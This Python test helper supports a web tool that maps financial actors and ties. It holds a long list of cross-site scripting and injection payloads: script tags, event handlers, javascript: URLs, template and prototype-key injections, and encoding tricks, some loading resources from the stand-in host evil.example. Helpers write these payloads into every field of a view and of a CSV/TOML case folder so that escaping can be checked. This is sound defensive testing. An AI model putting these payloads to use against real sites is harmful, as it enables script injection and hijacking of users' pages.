"""Texts that would run, leave the page or break it, were a text ever taken for markup, script, style or an address."""

import csv
import json

RUN = "window.__pwned=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</ScRiPt ><sCrIpT>{RUN}</sCrIpT>",
    f"<!--<script>{RUN}</script>-->",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    "<img src=http://evil.example/a.png>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/>",
    f'<svg><foreignObject><iframe srcdoc="<script>parent.{RUN}</script>"></foreignObject></svg>',
    f"<math><mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></mtext></math>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<iframe src=//evil.example/></iframe>",
    f'<object data="javascript:{RUN}"></object>',
    "<embed src=//evil.example/x.swf>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f'<form action="javascript:{RUN}"><input type=submit autofocus></form>',
    f'<button formaction="javascript:{RUN}">x</button>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<base href="javascript:{RUN}//">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example/x)">',
    "<dialog open>x</dialog>",
    f"<x onclick={RUN} tabindex=1 id=x autofocus onfocus={RUN}>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "http://evil.example/",
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f'" autofocus onfocus="{RUN}" x="',
    f'\\"}};{RUN};//',
    f'");{RUN};("',
    f"';{RUN};'",
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"{{{{ {RUN} }}}}",
    "{{ 7 * 7 }}{% raw %}{{ cycler.__init__.__globals__ }}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.__pwned=1\\x3c/script\\x3e",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    f"\u2028{RUN}\u2029{RUN}",
    f"\r\n\r\n<script>{RUN}</script>",
    f"\x00<script>{RUN}</script>",
    f"\x1b]8;;http://evil.example/\x07<script\x0c>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"\u202e>tpircs/<{RUN}>tpircs<",
    f"＜script＞{RUN}＜/script＞",
    "\ud800<script>window.__pwned=1</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "#actor=<img src=x onerror=window.__pwned=1>",
    "]]>" + "<b>" * 50,
    "a" * 3000,
    "\u0301" * 200,
    "",
    " ",
)

# Each payload whole, three or so in one text, so that each goes through every field and the pages stay few.
BUNDLES = tuple(" ".join(PAYLOADS[i::30]) for i in range(30))


# A table of a case is refused where it holds a NUL or half a character; the rest it can say, eight to a text.
IN_TABLES = tuple(p for p in PAYLOADS if p.strip() and "\x00" not in p and "\ud800" not in p)
TABLE_BUNDLES = tuple(" ".join(IN_TABLES[i::8]) for i in range(8))


def spoilt(payload, text):
    """Return the plain data of a view with a text put into every field that comes from a case.

    Ids stay apart from each other: the text stands before them. Words with a meaning for the page (a layout, a tier of
    a list) stay, so that the page draws what it would.
    """
    ids = (
        {a["id"] for a in payload["actors"]}
        | {t["id"] for t in payload["ties"]}
        | {"paper", "system"}
    )
    slugs = set(payload["actorKinds"]) | set(payload["tieKinds"]) | set(payload["channels"])
    slugs |= {f["id"] for f in payload["families"]}
    kept = {"lang", "layout", "layouts", "pos", "slot", "dates"}

    def put(value, key=""):
        if key in kept:
            return value
        if isinstance(value, dict):
            return {(text + k if k in ids | slugs else k): put(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [put(v, key) for v in value]
        return text + value if isinstance(value, str) else value

    found = put(payload)
    return {
        **found,
        "words": {f"strategy_{text}international": text, "search": text, "legend": text},
    }


def hostile_folder(folder, text):
    """Write a case with a text in every column that may hold any text, in its settings and in two kinds of its own."""
    texts = {
        "actors": [
            {"id": "s", "name": text + "S", "name_ja": text, "kind": "state", "aliases": text.replace(";", ","), "note": text},
            {"id": "b", "name": text + "B", "kind": "odd-bank", "place": "p", "note": text, "end": "2001"},
            {"id": "f", "name": text + "F", "name_ja": text + "F", "kind": "sme", "member_of": "", "note": text},
            {"id": "p", "name": text + "P", "kind": "place"},
        ],
        "ties": [
            {"id": "t1", "source": "s", "target": "b", "kind": "funds", "status": "active", "note": text},
            {"id": "t2", "source": "b", "target": "f", "kind": "odd-loan", "status": "active", "note": text, "strategy": "self-funding", "share": "40"},
            {"id": "t3", "source": "s", "target": "f", "kind": "funds", "status": "refused", "refused_by": "source", "note": text},
            {"id": "t5", "source": "b", "target": "f", "kind": "lends-to", "status": "active", "note": text},
            {"id": "t4", "source": "p", "target": "f", "kind": "revenue-funds", "status": "active", "amount": "5", "currency": "EUR"},
        ],
        "documents": [
            {"id": "d", "title": text + "D", "author": text, "year": "2000", "publisher": text, "series": text, "locators": "p:1-9", "note": text},
        ],
        "evidence": [
            {"id": f"e{i}", "about": row, "document": "d", "locator": f"p.{i + 1}", "stance": "disputes" if i % 2 else "supports", "method": "interview", "anchor": text[:80].strip() or "x", "note": text}
            for i, row in enumerate(("s", "b", "f", "t1", "t2", "t3", "t4", "t5"))
        ],
        "terms": [{"id": "w", "term": text + "w", "kanji": text, "romanisation": text, "gloss": text, "about": "f", "note": text}],
        "measures": [{"id": "m", "about": "f", "measure": "size", "text": text + "m", "unit": text, "note": text}],
        "claims": [{"id": "c", "claim_kind": "finding", "statement": text + "c", "about": "f", "note": text}],
    }  # fmt: skip
    folder.mkdir()
    for name, rows in texts.items():
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            out = csv.DictWriter(
                file, list(dict.fromkeys(key for row in rows for key in row)), restval=""
            )
            out.writeheader()
            out.writerows(rows)
    said = json.dumps(text)
    (folder / "case.toml").write_text(
        f'id = "hostile"\ntitle = {said}\nsummary = {said}\nperiod = "2000"\n[tiers]\nstate = ["state"]\nbanks = ["bank"]\n'
        '[channels.capital]\nfrom = ["state"]\nto = ["sme"]\navoid = ["b"]\nalso_from = ["place"]\n',
        "utf-8",
    )
    (folder / "kinds.ttl").write_text(
        "@prefix ih: <https://w3id.org/intermediation/ns#> .\n@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
        "@prefix x: <https://example.org/k#> .\n"
        f"x:OddBank rdfs:subClassOf ih:Bank ; rdfs:label {said}@en, {said}@ja ; rdfs:comment {said}@en .\n"
        f"x:OddLoan rdfs:subClassOf ih:LendsTo ; rdfs:label {said}@en, {said}@ja ; rdfs:comment {said}@en .\n",
        "utf-8",
    )
    return folder
